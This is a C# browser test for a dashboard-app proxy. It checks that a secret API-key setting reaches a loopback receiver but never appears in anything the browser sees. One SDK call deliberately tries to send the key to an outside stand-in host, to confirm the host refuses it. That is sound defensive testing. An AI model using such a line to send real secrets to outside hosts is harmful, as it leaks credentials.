using System.Collections.Concurrent;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Http;
using Microsoft.Playwright;
using UniLink.BrowserTests.Infrastructure;
using UniLink.Tests.Infrastructure;

namespace UniLink.BrowserTests.DashboardApps.Manifests;

/// <summary>
/// <c>unilink:request</c>: an app installed from a manifest (on another loopback origin) asks the host to call a
/// loopback receiver with <c>{{settings.api_key}}</c>. The receiver gets the key; the key is nowhere the browser can
/// see — the page's HTML, the app frame's messages, any HTTP request or response, any WebSocket frame.
/// </summary>
public sealed class AppRequestTests(EmbeddingFixture fx) : IClassFixture<EmbeddingFixture>
{
    private const string ApiKey = "sk_live_proxy_93c1e7d2f0";

    [Fact]
    public async Task A_request_with_a_secret_setting_reaches_the_receiver_and_the_secret_never_reaches_the_browser()
    {
        await using var receiver = new LoopbackReceiver(async c =>
        {
            c.Response.ContentType = "application/json";
            c.Response.Headers["X-Internal-Server"] = "crm-node-7";
            c.Response.Headers.SetCookie = "crm_session=abc";
            // A careless API echoes the key back: the host replaces it before the answer goes to the frame.
            await c.Response.WriteAsync(c.Request.Path == "/echo"
                ? JsonSerializer.Serialize(new { you_sent = c.Request.Headers.Authorization.ToString() })
                : """{"customer":"Ada Lovelace","tier":"gold"}""");
        });
        var account = await fx.NewAccountAsync();
        using var admin = fx.Server.AdminClient();
        var manifest = new JsonObject
        {
            ["manifest_version"] = 1, ["name"] = "Proxy CRM",
            ["frames"] = new JsonArray(new JsonObject { ["url"] = fx.Apps.Url("/app?mode=listen") }),
            ["settings"] = new JsonArray(
                new JsonObject { ["name"] = "api_key", ["label"] = "API key", ["secret"] = true, ["required"] = true },
                new JsonObject { ["name"] = "region", ["label"] = "Region" }),
            ["request_domains"] = new JsonArray("127.0.0.1"),
        };
        await (await admin.PostAsync($"/api/v1/accounts/{account}/dashboard_apps/install", HttpAssertions.RawJson(new JsonObject
        {
            ["manifest"] = manifest, ["consent"] = true, ["settings"] = new JsonObject { ["api_key"] = ApiKey, ["region"] = "eu-west" },
        }.ToJsonString()))).ExpectAsync(HttpStatusCode.OK);
        var conversation = (await admin.CreateConversationAsync(account))["id"]!.GetValue<int>();

        var page = await fx.SignedInPageAsync([]);
        var seen = new ConcurrentQueue<string>();
        page.Request += (_, r) => seen.Enqueue($"{r.Method} {r.Url} {string.Join(";", r.Headers.Select(h => $"{h.Key}={h.Value}"))} {r.PostData}");
        page.Response += async (_, r) =>
        {
            var headers = string.Join(";", (await r.AllHeadersAsync()).Select(h => $"{h.Key}={h.Value}"));
            string body;
            try { body = await r.TextAsync(); } catch (PlaywrightException) { body = ""; } // redirects and aborted loads have none
            seen.Enqueue($"{r.Status} {r.Url} {headers} {body}");
        };
        page.WebSocket += (_, ws) =>
        {
            ws.FrameSent += (_, f) => seen.Enqueue("ws> " + (f.Text ?? System.Text.Encoding.UTF8.GetString(f.Binary ?? [])));
            ws.FrameReceived += (_, f) => seen.Enqueue("ws< " + (f.Text ?? System.Text.Encoding.UTF8.GetString(f.Binary ?? [])));
        };
        await page.OpenConversationAsync(account, conversation);
        await page.GetByRole(AriaRole.Tab, new() { Name = "Proxy CRM", Exact = true }).ClickAsync();
        var frame = await page.AppFrameAsync("dashboard-app--frame-0-0");
        await frame.WaitForAsync(r => r.Contexts().Any());

        var target = receiver.Url("/customers?key={{settings.api_key}}&region={{settings.region}}");
        await frame.EvaluateAsync("""
            url => window.parent.postMessage(JSON.stringify({ event: 'unilink:request', id: 'r1', method: 'POST', url,
              headers: { Authorization: 'Bearer {{settings.api_key}}', 'Content-Type': 'application/json' },
              body: { api_key: '{{settings.api_key}}', query: 'Ada "the first"' } }), '*')
            """, target);
        var received = await frame.WaitForAsync(r => Result(r, "r1") is not null);
        var result = Result(received, "r1")!;
        Assert.True(result["ok"]!.GetValue<bool>(), result.ToJsonString());
        Assert.Equal(200, result["status"]!.GetValue<int>());
        Assert.Equal("""{"customer":"Ada Lovelace","tier":"gold"}""", result["body"]!.GetValue<string>());
        Assert.Equal("application/json", result["headers"]!["content-type"]!.GetValue<string>());
        Assert.Null(result["headers"]!["set-cookie"]);
        Assert.Null(result["headers"]!["x-internal-server"]);

        // The receiver got the key in the query, the header and the JSON body (escaped as JSON there).
        var request = Assert.Single(receiver.Received);
        Assert.Equal("POST", request.Method);
        Assert.Equal($"/customers?key={ApiKey}&region=eu-west", request.PathAndQuery);
        Assert.Equal($"Bearer {ApiKey}", request.Headers["Authorization"]);
        Assert.Equal(JsonNode.Parse($$"""{"api_key":"{{ApiKey}}","query":"Ada \"the first\""}""")!.ToJsonString(), JsonNode.Parse(request.Body)!.ToJsonString());
        Assert.False(request.Headers.ContainsKey("Cookie"));

        // The SDK's request() does the same, and an answer that echoes the key has it replaced.
        var sdkResult = await frame.EvaluateAsync<string>("""
            async ([sdk, url]) => {
              const { connect } = await import(sdk);
              const app = connect();
              const res = await app.request({ url, headers: { Authorization: 'Bearer {{settings.api_key}}' } });
              let refused = null;
              try { await app.request({ url: 'https://api.elsewhere.example/x?k={{settings.api_key}}' }); } catch (e) { refused = e.message; }
              return JSON.stringify({ res, refused });
            }
            """, new[] { fx.Server.BaseAddress.ToString().TrimEnd('/') + "/sdk/dashboard-app.js", receiver.Url("/echo") });
        var sdk = JsonNode.Parse(sdkResult)!;
        Assert.Equal(200, sdk["res"]!["status"]!.GetValue<int>());
        Assert.Equal("""{"you_sent":"Bearer [secret]"}""", sdk["res"]!["body"]!.GetValue<string>());
        Assert.Equal("api.elsewhere.example is not one of the app's request domains (127.0.0.1)", sdk["refused"]!.GetValue<string>());
        Assert.Equal(2, receiver.Received.Count); // the refused one was never sent

        // Nowhere the browser saw: the page, the frame's messages, the HTTP traffic, the circuit's WebSocket frames.
        await Task.Delay(300); // the last response bodies are read asynchronously
        var html = await page.ContentAsync() + string.Concat(await Task.WhenAll(page.Frames.Select(f => f.ContentAsync())));
        Assert.DoesNotContain(ApiKey, html);
        Assert.DoesNotContain(ApiKey, (await frame.ReceivedAsync()).ToJsonString());
        Assert.Contains(seen, s => s.StartsWith("ws"));
        Assert.DoesNotContain(seen, s => s.Contains(ApiKey));
        // The settings page an administrator sees shows that the key is set, not the key.
        await page.GotoAsync($"/app/accounts/{account}/settings/integrations/dashboard_apps");
        await page.GetByText("Proxy CRM").First.WaitForAsync();
        await page.WaitForInteractiveAsync();
        Assert.DoesNotContain(ApiKey, await page.ContentAsync());
        Assert.DoesNotContain(seen, s => s.Contains(ApiKey));
    }

    private static JsonNode? Result(JsonArray received, string id) =>
        received.Select(r => r?["data"]).FirstOrDefault(d => d?["event"]?.GetValue<string>() == "unilink:request-result" && d["id"]?.GetValue<string>() == id);
}
